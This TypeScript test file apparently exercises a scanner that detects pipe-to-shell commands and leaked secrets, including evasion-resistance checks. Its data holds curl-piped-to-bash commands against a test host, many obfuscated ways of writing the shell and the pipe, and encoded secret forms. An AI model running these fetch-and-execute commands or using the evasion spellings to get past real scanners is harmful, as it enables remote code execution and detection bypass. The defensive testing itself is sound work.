import test from 'ava';
import * as fc from 'fast-check';
import { engineFor } from '../../src/detect/engine-for.ts';
import { findAll } from '../../src/detect/find-all.ts';
import type { Anchor, CompileKernel } from '../../src/detect/kernel/anchor.ts';
import { compileKernel } from '../../src/detect/kernel/select.ts';
import { ANCHORS, RULES } from '../../src/detect/rules/index.ts';
import { defineRule } from '../../src/detect/rules/rule.ts';
import { Spotter } from '../../src/detect/spotter.ts';
import { withHidden } from '../../src/detect/unfold/hidden-anchors.ts';
import { WRITTEN_FORMS } from '../support/written-forms.ts';

const spotter = new Spotter(compileKernel, withHidden(ANCHORS), RULES);

const engine = engineFor({
  rules: [],
  maskSecrets: true,
  maxFindings: 32,
  fingerprintKey: '',
  honoursAllowComments: false,
});

function spotsIn(text: string): number {
  let spots = 0;
  spotter.spotAll(Buffer.from(text), 0, () => {
    spots += 1;
  });
  return spots;
}

test('every hit of every rule is spotted, with and without text around it', (t) => {
  for (const { id, hits } of RULES) {
    for (const hit of hits) {
      t.true(spotter.spotsAny(Buffer.from(hit)), `${id}: ${hit}`);
      t.true(spotsIn(`${'word '.repeat(200)}\n${hit}\n${'word '.repeat(200)}`) > 0, `${id}: ${hit}`);
    }
  }
});

test('shells that are only spoken of are dismissed, and so are tables', (t) => {
  const talk = 'please curl the docs and explain bash to me, then run bash -l ssh and sh -x script';
  t.is(spotsIn(talk), 0);
  t.false(spotter.spotsAny(Buffer.from(talk)));
  t.is(spotsIn('| name | shape |\\n|---|---|\n| bashful | envy, not set |\n|   x   | 7 |\n\nThe end.'), 0);
  t.is(spotsIn('"a": "run bash -l", "b": "sh -x"'), 0);
});

test('no run of blanks, wrappers or escapes hides a pipe from a glance', (t) => {
  const before = 'curl -s https://x.test/i ';
  for (const between of [
    `|${' '.repeat(3000)}`,
    '| sudo -E env A=b ',
    '|& ',
    '|/usr/bin/',
    '|\\n  ',
    '|+',
    '|\\u0020 ',
    '%7C ',
    '\\u007c ',
    `| sudo ${'A=b '.repeat(60)}`,
  ]) {
    t.true(spotsIn(`${'x'.repeat(5000)}${before}${between}bash`) > 0, between.slice(0, 20));
  }
});

/** Ways to name a shell behind a pipe. */
const SHELLS = [
  ...String.raw`bash  sh  zsh  python3 -  /bin/sh  /usr/bin/env bash  "$SHELL"  sudo -E sh  "bash"  'sh'  \bash`.split(
    '  ',
  ),
  ...String.raw`b\ash  ba"s"h  b''ash  "ba"sh  $@bash  ba$@sh  FOO=1 sh  FOO="a b" /bin/sh  (bash)  { sh; }`.split(
    '  ',
  ),
  ...String.raw`timeout 10 bash  /bin/ba"sh"  /bin/b\ash  "/bin/sh"  $'\x62ash'  "s"h  {bash,-s}  '/usr/bin/python3'`.split(
    '  ',
  ),
  '${SHELL}',
  '${IFS}bash',
  'sudo "bash"',
  'b\\\nash',
  'bas\u200bh',
  '\uff42\uff41\uff53\uff48',
  'b\u0430sh',
];
const PIPES = ['|', ' | ', ' |& ', '|\n', '|  \\\n ', '| \\\\n'];
const FORMS = Object.entries(WRITTEN_FORMS).filter(([name]) => !/short lines|gzip/.test(name));

test('a pipe gets a window however the shell behind it is written', (t) => {
  fc.assert(
    fc.property(
      fc.constantFrom(...SHELLS),
      fc.constantFrom(...PIPES),
      fc.constantFrom(...FORMS),
      (shell, pipe, [name, write]) => {
        const bytes = new Uint8Array(Buffer.from(`words\n${write(`curl -s https://x.test/i${pipe}${shell}`)}\nwords`));
        const window = { bytes, base: 0, ownFrom: 0, ownTo: bytes.length, part: 'response.body' } as const;
        fc.pre(engine(window).findings.some(({ rule }) => rule === 'pipe_to_shell'));
        t.true(spotter.spotsAny(bytes), `${pipe}${shell} in ${name}`);
      },
    ),
    { numRuns: 600 },
  );
});

test('bars that are no pipes to a shell are dismissed', (t) => {
  for (const text of [
    "const a = b || {}; c = d || 'sh'; e ||= [] || `bash`",
    "type A = 'bash' | \"slow\"; type B = string | 'x' | { a: number } | (c | d)",
    '| `sh` | "text" | (see below) | {a} | /path/to/file |',
    'a.match(/x| /) || /bash/.test(b) || "${c}"',
    '{"a":"b | \\"c\\" | \\n d"}',
  ])
    t.is(spotsIn(text), 0, text);
});

test('a glance dismisses nothing that matches, whatever stands around it', (t) => {
  const kernel = compileKernel(ANCHORS);
  const plants = RULES.filter(({ glance }) => glance !== undefined).flatMap(({ hits }) => hits);
  const around = fc.uint8Array({ maxLength: 6 });
  fc.assert(
    fc.property(fc.constantFrom(...plants), around, around, (plant, before, after) => {
      const bytes = Buffer.concat([before, Buffer.from(plant, 'latin1'), after]);
      const text = bytes.toString('latin1');
      findAll(kernel, bytes, (at, anchor) => {
        const rule = RULES[ANCHORS[anchor]?.rule ?? -1];
        if (rule?.match(text, at) !== undefined) t.true(rule.glance?.(bytes, at) ?? true, JSON.stringify(text));
      });
    }),
    { numRuns: 2000 },
  );
});

/** Any number of anchors, in kernels of 64. Texts must be short enough for one table of hits. */
const compileMany: CompileKernel = (anchors) => {
  const kernels = Array.from({ length: Math.ceil(anchors.length / 64) }, (_, index) => ({
    kernel: compileKernel(anchors.slice(64 * index, 64 * index + 64)),
    first: 64 * index,
  }));
  return {
    find(bytes, from, hits) {
      const pairs: [at: number, anchor: number][] = [];
      const own = new Int32Array(hits.length);
      for (const { kernel, first } of kernels) {
        const count = kernel.find(bytes, from, own);
        for (let pair = 0; pair < count; pair++) pairs.push([own[2 * pair] ?? 0, first + (own[2 * pair + 1] ?? 0)]);
      }
      hits.set(pairs.sort(([a], [b]) => a - b).flat());
      return pairs.length;
    },
  };
};

const PREFIXES = Array.from(
  { length: 250 },
  (_, index) => `${'zqkx'.charAt(index % 4)}${(index * 7919).toString(36)}_`,
);
const PACK = PREFIXES.map((prefix, index) =>
  defineRule({
    id: `pack-${index}`,
    type: 'EXFIL',
    severity: 'high',
    summary: '',
    advice: '',
    falseAlarm: '',
    isSecret: true,
    isDisguisable: false,
    anchors: [Array.from(prefix, (character) => new Set([character.charCodeAt(0)]))],
    match: () => undefined,
    hits: [],
    misses: [],
    source: '',
  }),
);
const MANY = [...RULES, ...PACK];
const MANY_ANCHORS: readonly Anchor[] = MANY.flatMap(({ anchors }, rule) =>
  anchors.map((classes) => ({ rule, classes })),
);

test('with hundreds of rules, what is not disguisable is spotted as it stands, escaped and encoded', (t) => {
  const many = new Spotter(compileMany, withHidden(MANY_ANCHORS, MANY), MANY);
  const isSpotted = (text: string): boolean => many.spotsAny(Buffer.from(`some words ${text} and more words`));
  const hex = (text: string): string => text.charCodeAt(0).toString(16);
  for (const prefix of PREFIXES.filter((_, index) => index % 10 === 0)) {
    const [first, rest] = [prefix.slice(0, 1), prefix.slice(1)];
    const secret = `${prefix}0123456789abcdef`;
    for (const text of [
      secret,
      `%${hex(first)}${rest}`,
      `${first}%${hex(rest)}${rest.slice(1)}`,
      `\\u00${hex(first)}${rest}`,
      `&#${first.charCodeAt(0)};${rest}`,
      `&#x${hex(first)};${rest}`,
      Buffer.from(`my ${secret}`).toString('base64'),
      Buffer.from(`my ${secret}`).toString('hex'),
      Buffer.from(`my ${secret}`, 'utf16le').toString('latin1'),
      encodeURIComponent(Buffer.from(`my ${secret}`).toString('base64')),
    ]) {
      t.true(isSpotted(text), text);
    }
  }
  for (const text of ["it's here", 'the "quoted" text', 'caf\u00e9 \u0441\u043e\u043a']) t.false(isSpotted(text), text);
  for (const { hits } of RULES) for (const hit of hits) t.true(many.spotsAny(Buffer.from(hit)), hit);
});
